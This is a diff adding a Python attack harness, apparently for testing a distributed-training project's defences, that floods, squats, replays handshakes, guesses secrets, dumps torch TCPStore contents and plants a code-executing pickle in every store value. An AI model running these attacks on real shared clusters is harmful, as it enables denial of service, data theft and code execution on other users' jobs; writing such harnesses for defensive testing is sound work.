@@ -1,0 +1,167 @@
+"""What a stranger does to the ports of another user's job.
+
+python -m contrib.attack.hands.strangers WHAT HOST PORTS [SECONDS] [MORE]
+
+    idle      hold 300 connections that say nothing, and add 20 a second
+    bytes     send random bytes without an end, on 4 connections
+    squat     listen on the ports, and answer nothing
+    keys      list the keys of a torch TCPStore, and print them with their values as JSON
+    pickle    replace every value of a torch TCPStore by a pickle that creates the file MORE
+    guess     greet with each of the guessed keys in MORE (JSON), for purpose "ranks" and "launchers"
+    record    listen, and print what the first connection sends; answer with the nonce in MORE
+    replay    send the recorded lines in MORE (JSON), and print what comes back
+"""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import os
+import pickle
+import socket
+import sys
+import time
+from datetime import timedelta
+from typing import Any
+
+
+def connected(host: str, port: int) -> socket.socket | None:
+    try:
+        return socket.create_connection((host, port), timeout=2)
+    except OSError:
+        return None
+
+
+def idle(host: str, ports: list[int], seconds: float) -> None:
+    end, held = time.monotonic() + seconds, []
+    for _ in range(300 // len(ports)):
+        held += [c for c in (connected(host, port) for port in ports) if c]
+    print(f"{len(held)} idle connections", flush=True)
+    while time.monotonic() < end:
+        held += [c for c in (connected(host, port) for port in ports) if c]
+        time.sleep(0.05)
+
+
+def send_bytes(host: str, ports: list[int], seconds: float) -> None:
+    end, sent = time.monotonic() + seconds, 0
+    block = os.urandom(1 << 16).replace(b"\n", b"x")
+    print("sends", flush=True)
+    while time.monotonic() < end:
+        with contextlib.suppress(OSError):
+            found = [c for c in (connected(host, port) for port in ports * 4) if c]
+            for _ in range(16 * 64):
+                for connection in found:
+                    connection.settimeout(2)
+                    sent += connection.send(block)
+        time.sleep(0.05)
+    print(f"sent {sent >> 20} MB", flush=True)
+
+
+def squat(ports: list[int], seconds: float) -> None:
+    held = []
+    for port in ports:
+        listener = socket.socket()
+        with contextlib.suppress(OSError):
+            listener.bind(("", port))
+            listener.listen(64)
+            held.append(listener)
+    print(f"listens on {len(held)} of {len(ports)} ports", flush=True)
+    time.sleep(seconds)
+
+
+def keys(host: str, port: int) -> dict[str, str]:
+    """Return the readable keys and values of a TCPStore."""
+    import torch.distributed as dist  # noqa: PLC0415 - the others need no torch
+
+    store = dist.TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=5))
+    found: dict[str, str] = {}
+    for key in store.list_keys() if hasattr(store, "list_keys") else []:
+        with contextlib.suppress(Exception):
+            found[str(key)] = store.get(str(key)).decode("latin-1")[:2000]
+    return found
+
+
+class Bomb:
+    """A pickle of this object creates a file where it is read."""
+
+    def __init__(self, path: str) -> None:
+        self._path = path
+
+    def __reduce__(self) -> tuple[Any, ...]:
+        return (open, (self._path, "w"))
+
+
+def leave_pickles(host: str, port: int, path: str) -> int:
+    import torch.distributed as dist  # noqa: PLC0415 - the others need no torch
+
+    store = dist.TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=5))
+    names = [str(key) for key in store.list_keys()]
+    for name in names:
+        store.set(name, pickle.dumps(Bomb(path)))
+    return len(names)
+
+
+def guess(host: str, port: int, guesses: list[str]) -> list[str]:
+    from pollux.ranks.sealed import NoAnswer, connect  # noqa: PLC0415 - the others need it not
+
+    right = []
+    for word in guesses:
+        for purpose in ("ranks", "launchers"):
+            with contextlib.suppress(NoAnswer):
+                connect(host, [port], word.encode(), purpose, b"{}", 3.0)[0].close()
+                right.append(word)
+    return right
+
+
+def lines_of(connection: socket.socket, seconds: float) -> list[str]:
+    connection.settimeout(seconds)
+    received = b""
+    with contextlib.suppress(OSError):
+        while data := connection.recv(1 << 16):
+            received += data
+    return received.decode("latin-1").splitlines()
+
+
+def record(port: int, seconds: float, answer: str) -> list[str]:
+    listener = socket.create_server(("", port))
+    listener.settimeout(seconds)
+    print("listens", flush=True)
+    connection, _ = listener.accept()
+    connection.settimeout(5)
+    first = connection.recv(1 << 16).decode("latin-1")
+    connection.sendall((json.dumps({"nonce": answer}) + "\n").encode())
+    return [*first.splitlines(), *lines_of(connection, 2.0)]
+
+
+def replay(host: str, port: int, lines: list[str]) -> list[str]:
+    connection = connected(host, port)
+    assert connection is not None
+    connection.sendall("".join(f"{line}\n" for line in lines).encode("latin-1"))
+    return lines_of(connection, 3.0)
+
+
+def main() -> None:
+    what, host, ports = sys.argv[1], sys.argv[2], json.loads(sys.argv[3])
+    seconds = float(sys.argv[4]) if len(sys.argv) > 4 else 5.0
+    more = sys.argv[5] if len(sys.argv) > 5 else ""
+    match what:
+        case "idle":
+            idle(host, ports, seconds)
+        case "bytes":
+            send_bytes(host, ports, seconds)
+        case "squat":
+            squat(ports, seconds)
+        case "keys":
+            print(json.dumps(keys(host, ports[0])))
+        case "pickle":
+            print(leave_pickles(host, ports[0], more))
+        case "guess":
+            print(json.dumps(guess(host, ports[0], json.loads(more))))
+        case "record":
+            print(json.dumps(record(ports[0], seconds, more)), flush=True)
+        case "replay":
+            print(json.dumps(replay(host, ports[0], json.loads(more))), flush=True)
+
+
+if __name__ == "__main__":
+    main()
